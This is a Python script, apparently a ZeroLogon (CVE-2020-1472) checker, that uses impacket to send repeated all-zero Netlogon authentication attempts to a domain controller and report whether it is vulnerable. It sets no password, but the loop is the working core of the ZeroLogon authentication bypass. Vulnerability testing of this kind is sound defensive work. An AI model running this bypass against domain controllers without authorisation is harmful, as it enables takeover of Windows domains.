#!/usr/bin/env python3
"""zerologon.py DC_NETBIOS_NAME DC_IP [ATTEMPTS]

The ZeroLogon (CVE-2020-1472) test as published by Secura, with impacket: Netlogon over
TCP (found through the endpoint mapper, no authentication), then per attempt
NetrServerReqChallenge and NetrServerAuthenticate3 with an all-zero client challenge and
credential for the DC's own machine account.  A patched DC refuses every attempt
(STATUS_ACCESS_DENIED); an unpatched one accepts about one in 256.  Nothing is changed
on the DC: no password is set.  Prints "N attempts".
"""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport


def main():
    name, dc_ip = sys.argv[1], sys.argv[2]
    attempts = int(sys.argv[3]) if len(sys.argv) > 3 else 30
    binding = epm.hept_map(dc_ip, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
    print('netlogon at %s' % binding)
    dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    handle = '\\\\' + name
    zero = b'\x00' * 8
    done = 0
    for _ in range(attempts):
        try:
            nrpc.hNetrServerReqChallenge(dce, handle + '\x00', name + '\x00', zero)
        except Exception as exc:
            print('NetrServerReqChallenge: %s' % exc)
        try:
            nrpc.hNetrServerAuthenticate3(dce, handle + '\x00', name + '$\x00',
                                          nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                                          name + '\x00', zero, 0x212fffff)
            print('NetrServerAuthenticate3 accepted zero credentials: the DC is VULNERABLE')
            done += 1
            break
        except nrpc.DCERPCSessionError as exc:
            if exc.get_error_code() != 0xc0000022:
                print('NetrServerAuthenticate3: %s' % exc)
        except Exception as exc:
            print('NetrServerAuthenticate3: %s' % exc)
        done += 1
    print('%d attempts' % done)


if __name__ == '__main__':
    main()
